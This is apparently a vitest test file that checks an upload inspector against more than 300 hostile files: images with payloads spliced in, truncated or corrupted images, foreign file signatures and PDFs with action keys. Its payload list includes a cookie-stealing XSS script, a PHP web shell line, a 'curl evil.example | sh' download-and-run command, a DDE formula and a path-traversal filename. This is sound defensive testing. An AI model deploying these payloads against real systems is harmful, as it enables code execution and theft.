import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import sharp from 'sharp'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { RefusalError } from '@/domain/refusal'
import { inspectFile } from './evidence-kind'
import { readServed, seal } from './evidence-store'

const kept = process.env.DATA_DIR
const folder = mkdtempSync(join(tmpdir(), 'sixlines-hostile-'))
beforeAll(() => {
  process.env.DATA_DIR = folder
})
afterAll(() => {
  process.env.DATA_DIR = kept
  rmSync(folder, { recursive: true })
})

type Hostile = {
  what: string
  bytes: Buffer /** It must be refused, whatever a decoder makes of it. */
  never?: boolean
}

const payloads = [
  '<script>alert(document.cookie)</script>',
  '<?php system($_GET["c"]); ?>',
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  '<!doctype html><iframe src="//evil.example">',
  '#!/bin/sh\ncurl evil.example | sh\n',
  'PK\u0003\u0004evil.exe',
  'MZ\u0090\u0000This program cannot be run in DOS mode',
  '%PDF-1.7 /OpenAction << /S /JavaScript >>',
  "=cmd|'/c calc'!A1",
]

async function carriers(): Promise<Record<string, Buffer>> {
  const pixels = Buffer.alloc(96 * 64 * 3)
  for (let at = 0; at < pixels.length; at++) pixels[at] = (at * 7919 + (at >> 5) * 104_729) % 256
  const picture = () => sharp(pixels, { raw: { width: 96, height: 64, channels: 3 } })
  return {
    jpeg: await picture().jpeg().toBuffer(),
    png: await picture().png().toBuffer(),
    webp: await picture().webp().toBuffer(),
  }
}

/** A payload as a comment that the format allows. */
function commented(kind: string, whole: Buffer, payload: Buffer): Buffer {
  if (kind === 'jpeg') {
    const head = Buffer.from([0xff, 0xfe, (payload.length + 2) >> 8, (payload.length + 2) & 255])
    return Buffer.concat([whole.subarray(0, 2), head, payload, whole.subarray(2)])
  }
  const size = Buffer.alloc(4)
  if (kind === 'png') {
    size.writeUInt32BE(payload.length)
    return Buffer.concat([
      whole.subarray(0, 33),
      size,
      Buffer.from('tEXt'),
      payload,
      Buffer.alloc(4),
      whole.subarray(33),
    ])
  }
  size.writeUInt32LE(payload.length)
  return Buffer.concat([whole, Buffer.from('XMP '), size, payload])
}

/** Numbers that are the same in every run. */
function* dice(seed: number): Generator<number> {
  for (let state = seed; ; ) {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0
    yield state / 2 ** 32
  }
}

const strange = [
  '424d',
  '49492a00',
  '4d4d002a',
  '00000100',
  '38425053',
  '474946383961',
  '0000001866747970',
  '1f8b08',
  '377abcaf271c',
  '526172211a07',
  'd0cf11e0a1b11ae1',
  '7f454c46',
  'cafebabe',
  '0061736d',
  '435753',
  '7b5c727466',
  '3c3f786d6c',
  '3c68746d6c',
  '4f676753',
  '494433',
  '52494646000000005741564520',
  '25215053',
  '5a4d',
  '504b0506',
]

async function corpus(): Promise<Hostile[]> {
  const all: Hostile[] = []
  for (const [kind, whole] of Object.entries(await carriers())) {
    for (const [no, text] of payloads.entries()) {
      const payload = Buffer.from(text, 'latin1')
      const middle = Math.floor(whole.length / 2)
      all.push(
        { what: `${kind} after payload ${no}`, bytes: Buffer.concat([payload, whole]), never: true },
        { what: `${kind} before payload ${no}`, bytes: Buffer.concat([whole, payload]) },
        { what: `${kind} with payload ${no} as a comment`, bytes: commented(kind, whole, payload) },
        {
          what: `${kind} cut in two by payload ${no}`,
          bytes: Buffer.concat([whole.subarray(0, middle), payload, whole.subarray(middle)]),
        },
        {
          what: `first bytes of ${kind} and payload ${no}`,
          bytes: Buffer.concat([whole.subarray(0, 24), payload]),
          never: true,
        },
      )
    }
    for (let part = 1; part < 20; part++)
      all.push({
        what: `${kind} cut at ${part}/20`,
        bytes: whole.subarray(0, Math.floor((whole.length * part) / 20)),
        never: true,
      })
    const roll = dice(kind.length)
    for (let round = 0; round < 40; round++) {
      const bytes = Buffer.from(whole)
      for (let hit = 0; hit < 6; hit++)
        bytes[Math.floor(roll.next().value * bytes.length)] = Math.floor(roll.next().value * 256)
      all.push({ what: `${kind} spoilt, round ${round}`, bytes })
    }
  }
  for (const magic of strange)
    all.push({
      what: `the head ${magic}`,
      bytes: Buffer.concat([Buffer.from(magic, 'hex'), Buffer.alloc(64)]),
      never: true,
    })
  for (const name of [
    'JavaScript',
    'JS',
    'Launch',
    'RichMedia',
    'EmbeddedFile',
    'XFA',
    'SubmitForm',
    'ImportData',
    'GoToE',
  ]) {
    const hidden = `${name.slice(0, 1)}#${name.charCodeAt(1).toString(16)}${name.slice(2)}`
    for (const written of [name, hidden])
      all.push({
        what: `a PDF with /${written}`,
        bytes: Buffer.from(`%PDF-1.4\n<< /S /${written} >>\n%%EOF`),
        never: true,
      })
  }
  return all
}

it('of more than 300 hostile files none is taken wrongly, none falls over, and what is served carries nothing of them', async () => {
  const files = await corpus()
  expect(files.length).toBeGreaterThanOrEqual(300)
  const before = process.memoryUsage().rss
  const wrong: string[] = []
  let taken = 0
  for (const { what, bytes, never } of files) {
    try {
      const { mime } = await inspectFile(bytes, '../../etc/passwd\u0000.jpg')
      taken++
      if (never) wrong.push(`${what}: taken as ${mime}`)
      const served = await readServed(await seal(bytes), 'thumb')
      if (served.subarray(0, 3).toString('hex') !== 'ffd8ff') wrong.push(`${what}: not served as a JPEG`)
      for (const text of payloads)
        if (served.includes(Buffer.from(text, 'latin1'))) wrong.push(`${what}: served with its payload`)
    } catch (error) {
      if (!(error instanceof RefusalError)) wrong.push(`${what}: ${error}`)
      else if (!['fileKind', 'fileBroken', 'fileTooLarge'].includes(error.refusal.code))
        wrong.push(`${what}: ${error.refusal.code}`)
    }
  }
  expect(wrong).toEqual([])
  // some are pictures all the same, with something hung behind them; they are kept, and shown only as what they show
  expect(taken).toBeGreaterThan(0)
  expect(process.memoryUsage().rss - before).toBeLessThan(300_000_000)
}, 240_000)
